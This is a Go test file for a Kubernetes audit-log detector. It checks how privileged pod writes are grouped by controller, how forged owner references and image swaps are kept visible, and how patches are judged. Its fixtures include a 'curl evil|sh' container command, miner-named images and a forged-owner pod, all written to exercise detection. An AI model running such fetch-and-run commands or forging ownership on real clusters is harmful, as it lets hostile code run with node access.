package extended

import (
	"encoding/json"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/kubeprivpod/kubeprivpod/internal/detect"
)

// Tests of the precision rules (docs/precision.md): one row per decision (folding a controller's
// pods), changes rather than restatements, and the images.

const (
	dsController = "system:serviceaccount:kube-system:daemon-set-controller"
	rsController = "system:serviceaccount:kube-system:replicaset-controller"
	calicoImage  = "docker.io/calico/node:v3.28.2"
)

// calicoSpec is a calico-node-like pod spec: privileged, host network, a
// sensitive hostPath, with image img.
func calicoSpec(img string) string {
	return `"hostNetwork":true,"volumes":[{"name":"lib-modules","hostPath":{"path":"/lib/modules"}}],` +
		`"containers":[{"name":"calico-node","image":"` + img + `","securityContext":{"privileged":true},` +
		`"volumeMounts":[{"name":"lib-modules","mountPath":"/lib/modules"}]}]`
}

// ownedPod is a pod of the given owner (controller: true), as a
// controller writes it.
func ownedPod(name, ns, kind, owner, spec string) json.RawMessage {
	return obj(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"` + name + `","namespace":"` + ns + `",` +
		`"ownerReferences":[{"apiVersion":"apps/v1","kind":"` + kind + `","name":"` + owner + `","uid":"u1","controller":true,"blockOwnerDeletion":true}]},` +
		`"spec":{` + spec + `}}`)
}

// daemonSetPods returns n pod creations by the DaemonSet controller for
// kube-system/calico-node with image img, audit IDs prefixed by id.
func daemonSetPods(id string, n int, img string) [][]byte {
	var evs [][]byte
	for i := range n {
		name := "calico-node-" + id + itoa(i)
		evs = append(evs, ev{id: id + "-" + itoa(i), user: dsController, ns: "kube-system",
			time: "2026-11-24T10:00:" + twoDigits(i%60) + ".000000Z",
			req:  ownedPod(name, "kube-system", "DaemonSet", "calico-node", calicoSpec(img))}.raw())
	}
	return evs
}

func twoDigits(i int) string {
	if i < 10 {
		return "0" + itoa(i)
	}
	return itoa(i)
}

// col returns a row's cell by column name.
func col(tb detect.Table, r detect.Row, name string) []string { return r[tb.Index(name)] }

func TestFoldControllerPods(t *testing.T) {
	d := run(daemonSetPods("a", 50, calicoImage)...)
	tb := d.Result()
	if len(tb.Rows) != 1 {
		t.Fatalf("%d rows, want 1: %q", len(tb.Rows), summaries(tb))
	}
	r := tb.Rows[0]
	for c, want := range map[string][]string{
		"count": {"50"}, "user": {dsController}, "owner_kind": {"DaemonSet"}, "owner_namespace": {"kube-system"},
		"owner_name": {"calico-node"}, "workload": {"DaemonSet/calico-node"}, "images": {calicoImage},
		"firstTime": {"2026-11-24T10:00:00.000000Z"}, "lastTime": {"2026-11-24T10:00:49.000000Z"},
		"reasons": {"privileged", "hostPath:/lib/modules", "hostNetwork"}, "risk_score": {"49"},
	} {
		if got := col(tb, r, c); !slices.Equal(got, want) {
			t.Errorf("%s = %q, want %q", c, got, want)
		}
	}
	names := col(tb, r, "name")
	if len(names) != maxNames+1 || names[maxNames] != "… 40 more" || names[0] != "calico-node-a0" {
		t.Errorf("name = %q", names)
	}
	msg := col(tb, r, "message")[0]
	for _, want := range []string{
		dsController + " created 50 pods for DaemonSet kube-system/calico-node using ",
		"container calico-node (image " + calicoImage + ") runs privileged",
		"review who wrote it (its own row) rather than the controller",
	} {
		if !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	if strings.Contains(msg, "other spec") {
		t.Errorf("one spec, yet the message speaks of others:\n%s", msg)
	}
}

// The human write of the template stays its own row, with its author;
// the pods the controller made from it are one more row.
func TestFoldTemplateWriteStaysOwnRow(t *testing.T) {
	ds := obj(`{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"calico-node","namespace":"kube-system"},` +
		`"spec":{"template":{"spec":{` + calicoSpec(calicoImage) + `}}}}`)
	evs := append([][]byte{ev{id: "ds", user: "admin@example.com", resource: "daemonsets", group: "apps", ns: "kube-system", req: ds}.raw()},
		daemonSetPods("b", 5, calicoImage)...)
	tb := run(evs...).Result()
	got := summaries(tb)
	equalLines(t, "rows", got, []string{
		"admin@example.com create daemonsets kube-system/calico-node allowed [containers/calico-node] [privileged,hostPath:/lib/modules,hostNetwork] 49 1",
		dsController + " create pods kube-system/calico-node-b0,calico-node-b1,calico-node-b2,calico-node-b3,calico-node-b4 allowed [containers/calico-node] [privileged,hostPath:/lib/modules,hostNetwork] 49 5",
	})
	if w := col(tb, tb.Rows[0], "workload"); !slices.Equal(w, []string{"DaemonSet/calico-node"}) {
		t.Errorf("template row workload %q", w)
	}
	if k := col(tb, tb.Rows[0], "owner_kind"); k != nil {
		t.Errorf("template row owner_kind %q", k)
	}
}

// Evasions of folding: a pod that claims an owner but was not created by
// that owner's controller is its own row, and its workload is itself.
func TestFoldForgedOwnerNotFolded(t *testing.T) {
	forged := func(id, user, kind string) []byte {
		return ev{id: id, user: user, ns: "kube-system",
			req: ownedPod("calico-node-"+id, "kube-system", kind, "calico-node", calicoSpec("evil.example/miner:1"))}.raw()
	}
	evs := append(daemonSetPods("c", 3, calicoImage),
		forged("h1", "mallory@example.com", "DaemonSet"),                                                       // a human
		forged("h2", "mallory@example.com", "DaemonSet"),                                                       // twice
		forged("h3", "system:serviceaccount:kube-system:default", "DaemonSet"),                                 // another kube-system SA
		forged("h4", rsController, "DaemonSet"),                                                                // a controller, but not this kind's
		forged("h5", "system:serviceaccount:evil:daemon-set-controller", "DaemonSet"),                          // the name in another namespace
		ev{id: "h6", user: "mallory@example.com", ns: "kube-system", req: pod("plain", calicoSpec("x"))}.raw(), // no owner
	)
	tb := run(evs...).Result()
	folded := 0
	for _, r := range tb.Rows {
		user := col(tb, r, "user")[0]
		wl := col(tb, r, "workload")[0]
		if user == dsController {
			folded++
			if wl != "DaemonSet/calico-node" || col(tb, r, "count")[0] != "3" {
				t.Errorf("controller row: workload %q count %q", wl, col(tb, r, "count"))
			}
			continue
		}
		if len(col(tb, r, "name")) != 1 || col(tb, r, "count")[0] != "1" {
			t.Errorf("forged pod folded: %s", summary(tb, r))
		}
		if !strings.HasPrefix(wl, "Pod/") {
			t.Errorf("forged pod %s has workload %q, want its own Pod/…", summary(tb, r), wl)
		}
		if strings.Contains(col(tb, r, "message")[0], "pods for DaemonSet") {
			t.Errorf("forged pod reads like a controller row: %s", col(tb, r, "message")[0])
		}
	}
	if folded != 1 || len(tb.Rows) != 7 {
		t.Errorf("%d folded rows, %d rows, want 1 and 7:\n%s", folded, len(tb.Rows), strings.Join(summaries(tb), "\n"))
	}
}

// A controller pod whose spec differs from its owner's other pods (an
// image swap, a changed command) stays visible as a row of its own, and
// both rows say the owner's pods came from more than one spec.
func TestFoldDifferentSpecStaysVisible(t *testing.T) {
	evs := daemonSetPods("d", 24, calicoImage)
	evs = append(evs, daemonSetPods("e", 1, "evil.example/calico-node:v3.28.2")...)
	cmd := strings.Replace(calicoSpec(calicoImage), `"securityContext"`, `"command":["sh","-c","curl evil|sh"],"securityContext"`, 1)
	evs = append(evs, ev{id: "f", user: dsController, ns: "kube-system",
		req: ownedPod("calico-node-f", "kube-system", "DaemonSet", "calico-node", cmd)}.raw())
	tb := run(evs...).Result()
	if len(tb.Rows) != 3 {
		t.Fatalf("%d rows, want 3:\n%s", len(tb.Rows), strings.Join(summaries(tb), "\n"))
	}
	counts := map[string]string{}
	for _, r := range tb.Rows {
		key := strings.Join(col(tb, r, "images"), ",")
		if strings.Join(col(tb, r, "name"), ",") == "calico-node-f" {
			key = "command"
		}
		counts[key] = col(tb, r, "count")[0]
		if msg := col(tb, r, "message")[0]; !strings.Contains(msg, "were made from 2 other specs in this search") {
			t.Errorf("row %s does not point at the other specs:\n%s", key, msg)
		}
	}
	want := map[string]string{calicoImage: "24", "evil.example/calico-node:v3.28.2": "1", "command": "1"}
	if !reflect.DeepEqual(counts, want) {
		t.Errorf("rows by spec %v, want %v", counts, want)
	}
}

// system:kube-controller-manager (no per-controller credentials) folds
// too, and the Deployment controller's ReplicaSets fold per Deployment.
func TestFoldControllerManagerAndReplicaSets(t *testing.T) {
	var evs [][]byte
	for i := range 3 {
		evs = append(evs, ev{id: "m" + itoa(i), user: kubeControllerManager, ns: "web",
			req: ownedPod("web-abc-"+itoa(i), "web", "ReplicaSet", "web-abc", privSpec)}.raw())
		rs := obj(`{"kind":"ReplicaSet","metadata":{"name":"web-` + itoa(i) + `","namespace":"web","ownerReferences":[{"kind":"Deployment","name":"web","controller":true}]},` +
			`"spec":{"template":{"spec":{` + privSpec + `}}}}`)
		evs = append(evs, ev{id: "r" + itoa(i), user: "system:serviceaccount:kube-system:deployment-controller", ns: "web",
			resource: "replicasets", group: "apps", req: rs}.raw())
	}
	got := summaries(run(evs...).Result())
	equalLines(t, "rows", got, []string{
		"system:kube-controller-manager create pods web/web-abc-0,web-abc-1,web-abc-2 allowed [containers/c] [privileged] 49 3",
		"system:serviceaccount:kube-system:deployment-controller create replicasets web/web-0,web-1,web-2 allowed [containers/c] [privileged] 49 3",
	})
}

// deployPatch is a patch of Deployment default/web whose result (the
// response) has a privileged container "web" and a plain sidecar "side".
func deployPatch(id string, patch string) []byte {
	resp := obj(`{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"default","resourceVersion":"7"},` +
		`"spec":{"replicas":3,"template":{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[` +
		`{"name":"web","image":"registry.example/web:2","securityContext":{"privileged":true}},` +
		`{"name":"side","image":"registry.example/side:1"}]}}}}`)
	return ev{id: id, verb: "patch", resource: "deployments", group: "apps", nm: "web", req: obj(patch), resp: resp}.raw()
}

// A patch that touches nothing under the pod spec is not a new finding;
// neither is one that changes only what grants no access; one that
// changes the code of the privileged container is, and says so.
func TestPatchChangesNotRestatements(t *testing.T) {
	for _, c := range []struct {
		name, patch  string
		wantChanged  []string
		wantInDetail string
	}{
		{name: "labels", patch: `{"metadata":{"labels":{"team":"a"}}}`},
		{name: "annotations", patch: `{"metadata":{"annotations":{"note":"x"}}}`},
		{name: "finalizers", patch: `{"metadata":{"finalizers":["example.com/keep"]}}`},
		{name: "status", patch: `{"status":{"replicas":3}}`},
		{name: "replicas", patch: `{"spec":{"replicas":5}}`},
		{name: "rollout restart", patch: `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-11-24T10:00:00Z"}}}}}`},
		{name: "JSON patch labels", patch: `[{"op":"add","path":"/metadata/labels/x","value":"y"}]`},
		{name: "JSON patch remove", patch: `[{"op":"remove","path":"/spec/template/spec/containers/0/securityContext"}]`},
		{name: "sidecar image", patch: `{"spec":{"template":{"spec":{"containers":[{"name":"side","image":"registry.example/side:2"}]}}}}`},
		{name: "resources of the privileged container", patch: `{"spec":{"template":{"spec":{"containers":[{"name":"web","resources":{"limits":{"cpu":"1"}}}]}}}}`},
		{name: "image of the privileged container", patch: `{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example/web:2"}]}}}}`,
			wantChanged: []string{"image:containers/web"}, wantInDetail: "the patch changes the image of container web (now registry.example/web:2); container web (image registry.example/web:2) runs privileged"},
		{name: "command (merge patch of the whole list)", patch: `{"spec":{"template":{"spec":{"containers":[{"name":"web","command":["sh"]},{"name":"side"}]}}}}`,
			wantChanged: []string{"command:containers/web"}, wantInDetail: "the patch changes the command of container web"},
		{name: "JSON patch image by index", patch: `[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/web:2"}]`,
			wantChanged: []string{"image:containers/web"}, wantInDetail: "the patch changes the image of container web (now registry.example/web:2)"},
		{name: "JSON patch args and lifecycle", patch: `[{"op":"add","path":"/spec/template/spec/containers/0/args","value":["-x"]},{"op":"add","path":"/spec/template/spec/containers/0/lifecycle","value":{}}]`,
			wantChanged: []string{"args:containers/web", "lifecycle:containers/web"}, wantInDetail: "the patch changes the args and lifecycle of container web"},
		{name: "securityContext", patch: `{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}`,
			wantInDetail: "container web (image registry.example/web:2) runs privileged"},
		{name: "JSON patch move into the spec", patch: `[{"op":"move","from":"/metadata/annotations/x","path":"/spec/template/spec/containers/0/securityContext"}]`,
			wantInDetail: "runs privileged"},
	} {
		tb := run(deployPatch("p", c.patch)).Result()
		if c.wantInDetail == "" {
			if len(tb.Rows) != 0 {
				t.Errorf("%s: a restatement reported: %q", c.name, summaries(tb))
			}
			continue
		}
		if len(tb.Rows) != 1 {
			t.Errorf("%s: %d rows, want 1", c.name, len(tb.Rows))
			continue
		}
		r := tb.Rows[0]
		if got := col(tb, r, "changed"); !slices.Equal(got, c.wantChanged) {
			t.Errorf("%s: changed %q, want %q", c.name, got, c.wantChanged)
		}
		if msg := col(tb, r, "message")[0]; !strings.Contains(msg, c.wantInDetail) {
			t.Errorf("%s: message lacks %q:\n%s", c.name, c.wantInDetail, msg)
		}
	}
}

// The classic label patch of a privileged pod (seen on a real
// API server) is no finding; kubectl set image on it is.
func TestPatchPodLabelsVersusImage(t *testing.T) {
	resp := pod("priv-pod", `"containers":[{"name":"c","image":"nginx:2","securityContext":{"privileged":true}}]`)
	label := ev{id: "l", verb: "patch", nm: "priv-pod", req: obj(`{"metadata":{"labels":{"x":"y"}}}`), resp: resp}.raw()
	image := ev{id: "i", verb: "patch", nm: "priv-pod", req: obj(`{"spec":{"containers":[{"name":"c","image":"nginx:2"}]}}`), resp: resp}.raw()
	if tb := run(label).Result(); len(tb.Rows) != 0 {
		t.Errorf("label patch: %q", summaries(tb))
	}
	tb := run(image).Result()
	equalLines(t, "image patch", summaries(tb), []string{"eve@example.com patch pods default/priv-pod allowed [containers/c] [privileged] 49 1"})
	if msg := col(tb, tb.Rows[0], "message")[0]; !strings.Contains(msg, "patched pod default/priv-pod") ||
		!strings.Contains(msg, "the patch changes the image of container c (now nginx:2)") {
		t.Errorf("message: %s", msg)
	}
	// Logged at level Request (no response object), the patch document is
	// all there is: a label patch has nothing to judge either way.
	if tb := run(ev{id: "r", level: "Request", verb: "patch", nm: "priv-pod", req: obj(`{"metadata":{"labels":{"x":"y"}}}`)}.raw()).Result(); len(tb.Rows) != 0 {
		t.Errorf("label patch without response: %q", summaries(tb))
	}
}

// updates returns a create of pod default/p (resourceVersion 100) and
// updates chained on it.
func versioned(id, verb, base, made, spec string) []byte {
	meta := `"name":"p","namespace":"default"`
	if base != "" {
		meta += `,"resourceVersion":"` + base + `"`
	}
	req := obj(`{"kind":"Pod","apiVersion":"v1","metadata":{` + meta + `},"spec":{` + spec + `}}`)
	resp := obj(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p","namespace":"default","resourceVersion":"` + made + `"},"spec":{` + spec + `}}`)
	return ev{id: id, verb: verb, nm: "p", req: req, resp: resp, time: "2026-11-24T10:00:0" + id + ".000000Z"}.raw()
}

// An update that restates the version it was based on, when that version
// is in the search, is no finding; one that changes an image is, and so
// is one whose previous version the search does not hold.
func TestUpdateRestatement(t *testing.T) {
	other := `"containers":[{"name":"c","image":"other:1","securityContext":{"privileged":true}}]`
	create := versioned("1", "create", "", "100", privSpec)
	same := versioned("2", "update", "100", "101", privSpec)
	sameAgain := versioned("3", "update", "101", "102", privSpec)
	swapped := versioned("4", "update", "102", "103", other)
	unknownBase := versioned("5", "update", "90", "91", privSpec)
	for name, c := range map[string]struct {
		evs  [][]byte
		want []string
	}{
		"create then restating updates": {[][]byte{create, same, sameAgain},
			[]string{"eve@example.com create pods default/p allowed [containers/c] [privileged] 49 1"}},
		"image swap": {[][]byte{create, same, sameAgain, swapped}, []string{
			"eve@example.com create pods default/p allowed [containers/c] [privileged] 49 1",
			"eve@example.com update pods default/p allowed [containers/c] [privileged] 49 1"}},
		"previous version not in the search": {[][]byte{unknownBase},
			[]string{"eve@example.com update pods default/p allowed [containers/c] [privileged] 49 1"}},
		"a gap in the chain": {[][]byte{create, sameAgain},
			[]string{"eve@example.com create pods default/p allowed [containers/c] [privileged] 49 1",
				"eve@example.com update pods default/p allowed [containers/c] [privileged] 49 1"}},
	} {
		tb := run(c.evs...).Result()
		equalLines(t, name, summaries(tb), c.want)
		if name == "image swap" {
			if im := col(tb, tb.Rows[1], "images"); !slices.Equal(im, []string{"other:1"}) {
				t.Errorf("image swap row images %q", im)
			}
		}
	}
}

// The images column holds the judged containers' images; a pod-level
// access (hostNetwork) judges them all, and the message names them.
func TestImagesColumn(t *testing.T) {
	tb := run(ev{req: pod("p", `"hostNetwork":true,"initContainers":[{"name":"i","image":"init:1"}],`+
		`"containers":[{"name":"a","image":"app:1"},{"name":"b","image":"app:1"}]`)}.raw()).Result()
	r := tb.Rows[0]
	if im := col(tb, r, "images"); !slices.Equal(im, []string{"app:1", "init:1"}) {
		t.Errorf("images %q", im)
	}
	if msg := col(tb, r, "message")[0]; !strings.Contains(msg, "(hostNetwork) (images app:1, init:1).") {
		t.Errorf("message: %s", msg)
	}
	tb = run(ev{req: pod("p", `"containers":[{"name":"a","image":"app:1"},{"name":"b","image":"priv:1","securityContext":{"privileged":true}}]`)}.raw()).Result()
	if im := col(tb, tb.Rows[0], "images"); !slices.Equal(im, []string{"priv:1"}) {
		t.Errorf("only the privileged container's image: %q", im)
	}
}

// Folding, the restatement rule and the patch rule give the same rows
// through map → reduce, in every split.
func TestPrecisionDistributedEqualsSingle(t *testing.T) {
	var evs [][]byte
	evs = append(evs, daemonSetPods("g", 40, calicoImage)...)
	evs = append(evs, daemonSetPods("h", 3, "evil.example/x:1")...)
	evs = append(evs, versioned("1", "create", "", "100", privSpec), versioned("2", "update", "100", "101", privSpec),
		versioned("3", "update", "101", "102", `"containers":[{"name":"c","image":"y","securityContext":{"privileged":true}}]`))
	evs = append(evs, deployPatch("p1", `{"metadata":{"labels":{"a":"b"}}}`),
		deployPatch("p2", `{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example/web:2"}]}}}}`))
	evs = append(evs, ev{id: "forged", user: "mallory@example.com", ns: "kube-system",
		req: ownedPod("calico-node-zz", "kube-system", "DaemonSet", "calico-node", calicoSpec(calicoImage))}.raw())
	want := resultOf(run(evs...))
	if len(want.rows) != 6 {
		t.Fatalf("%d rows, want 6", len(want.rows))
	}
	rng := rand.New(rand.NewPCG(11, 12))
	for trial := range 40 {
		reduce, how := splitRun(t, evs, rng)
		if got := resultOf(reduce); !reflect.DeepEqual(got, want) {
			t.Fatalf("trial %d (%s): differs\n got %q\nwant %q", trial, how, got, want)
		}
	}
}

// requestLevelDS is the Request-level log of a DaemonSet write (no
// response object), at the given second.
func requestLevelDS(id, user, verb string, sec int, body string) []byte {
	return ev{id: id, user: user, verb: verb, level: "Request", resource: "daemonsets", group: "apps", ns: "kube-system", nm: "calico-node",
		time: "2026-11-24T10:00:" + twoDigits(sec) + ".000000Z", req: obj(body)}.raw()
}

// At audit level Request a patch shows only what it changes: an image
// swap in a privileged DaemonSet is judged against the last version of
// the DaemonSet in the search, and reported with its author.
func TestPendingCodePatchAtRequestLevel(t *testing.T) {
	create := requestLevelDS("c", "admin@example.com", "create", 1,
		`{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"calico-node","namespace":"kube-system"},"spec":{"template":{"spec":{`+calicoSpec(calicoImage)+`}}}}`)
	swap := requestLevelDS("s", "mallory@example.com", "patch", 5,
		`{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"calico-node"}],"containers":[{"image":"evil.example/node:1","name":"calico-node"}]}}}}`)
	sidecar := requestLevelDS("x", "mallory@example.com", "patch", 6,
		`{"spec":{"template":{"spec":{"containers":[{"image":"busybox:2","name":"side"}]}}}}`)
	jsonPatch := requestLevelDS("j", "mallory@example.com", "patch", 7,
		`[{"op":"replace","path":"/spec/template/spec/containers/0/command","value":["sh"]}]`)
	early := requestLevelDS("e", "mallory@example.com", "patch", 0,
		`{"spec":{"template":{"spec":{"containers":[{"image":"evil.example/node:0","name":"calico-node"}]}}}}`)

	tb := run(create, swap).Result()
	equalLines(t, "swap", summaries(tb), []string{
		"admin@example.com create daemonsets kube-system/calico-node allowed [containers/calico-node] [privileged,hostPath:/lib/modules,hostNetwork] 49 1",
		"mallory@example.com patch daemonsets kube-system/calico-node allowed [containers/calico-node] [privileged,hostPath:/lib/modules,hostNetwork] 49 1",
	})
	r := tb.Rows[1]
	if got := col(tb, r, "images"); !slices.Equal(got, []string{"evil.example/node:1", calicoImage}) {
		t.Errorf("images %q", got)
	}
	if got := col(tb, r, "changed"); !slices.Equal(got, []string{"image:containers/calico-node"}) {
		t.Errorf("changed %q", got)
	}
	msg := col(tb, r, "message")[0]
	if want := "mallory@example.com patched daemon set kube-system/calico-node from 192.0.2.7 using kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46: " +
		"the patch changes the image of container calico-node (now evil.example/node:1), which in the last version of this daemon set seen in this search " +
		"(created by admin@example.com at 2026-11-24T10:00:01.000000Z) had node access: container calico-node (image " + calicoImage + ") runs privileged"; !strings.HasPrefix(msg, want) {
		t.Errorf("message:\n%s\nwant prefix:\n%s", msg, want)
	}
	// A container without access, no earlier version, or only a later one:
	// nothing. In a host-network pod every container has access. A JSON
	// patch by index: the earlier version cannot say which container it
	// is, so it counts.
	plainSide := requestLevelDS("p", "admin@example.com", "create", 1,
		`{"kind":"DaemonSet","metadata":{"name":"calico-node","namespace":"kube-system"},"spec":{"template":{"spec":{`+
			`"containers":[{"name":"calico-node","image":"a:1","securityContext":{"privileged":true}},{"name":"side","image":"b:1"}]}}}}`)
	for name, c := range map[string]struct {
		evs  [][]byte
		want int
	}{
		"sidecar without access":    {[][]byte{plainSide, sidecar}, 1},
		"sidecar in a host network": {[][]byte{create, sidecar}, 2},
		"no version":                {[][]byte{swap}, 0},
		"version after":             {[][]byte{early, create}, 1},
		"JSON patch":                {[][]byte{create, jsonPatch}, 2},
	} {
		if got := run(c.evs...).Result(); len(got.Rows) != c.want {
			t.Errorf("%s: %d rows, want %d: %q", name, len(got.Rows), c.want, summaries(got))
		}
	}
	// Through map → reduce.
	evs := [][]byte{create, swap, sidecar, jsonPatch, early}
	want := resultOf(run(evs...))
	rng := rand.New(rand.NewPCG(3, 4))
	for trial := range 30 {
		reduce, how := splitRun(t, evs, rng)
		if got := resultOf(reduce); !reflect.DeepEqual(got, want) {
			t.Fatalf("trial %d (%s): differs\n got %q\nwant %q", trial, how, got, want)
		}
	}
}
